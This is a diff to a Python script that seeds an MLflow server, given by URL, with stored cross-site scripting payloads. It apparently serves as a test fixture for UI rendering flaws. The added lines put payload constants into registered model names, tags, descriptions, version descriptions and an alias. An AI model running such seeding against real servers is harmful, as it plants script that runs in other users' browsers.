@@ -122,6 +122,18 @@ def main(url):
         write(d, f"{XSS_SCRIPT.replace('/', '')}.md", f"{XSS_IMG}\n\n[x]({XSS_LINK})\n")
         client.log_artifacts(xruns[0], d)
     out["xss_run_ids"] = xruns
+    # and in the registry, when the server has one
+    try:
+        client.create_registered_model(XSS_IMG, tags={"payload": XSS_SCRIPT},
+                                       description=f"{XSS_IMG} [x]({XSS_LINK})")
+        client.create_model_version(XSS_IMG, f"runs:/{runs[0]}/model", run_id=runs[0],
+                                    description=XSS_SVG, tags={"payload": XSS_IMG})
+        client.set_registered_model_alias(XSS_IMG, "xss", "1")
+        out["xss_model"] = XSS_IMG
+    except mlflow.exceptions.MlflowException as e:
+        if "ENDPOINT_NOT_FOUND" not in str(e) and "404" not in str(e):
+            raise
+        out["xss_model"] = None
     print(json.dumps(out))
 
 
